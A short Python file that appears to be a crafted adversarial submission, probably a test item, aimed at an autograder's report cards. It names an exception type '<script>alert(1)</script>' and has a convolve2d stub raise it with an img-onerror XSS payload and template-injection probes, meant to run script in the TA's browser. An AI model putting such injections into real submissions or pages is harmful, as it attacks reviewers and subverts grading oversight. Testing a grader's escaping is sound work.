"""Attack: tags in the names and texts of exceptions and types, which cards quote.
Wants: a script in the TA's browser.
Honest mark: 8
"""

# %% convolve2d
Evil = type("<script>alert(1)</script>", (Exception,), {})


def convolve2d(image, kernel, stride=1, padding=0):
    raise Evil("</td></table><img src=x onerror=alert(1)>{{ 7*7 }}${7*7}")
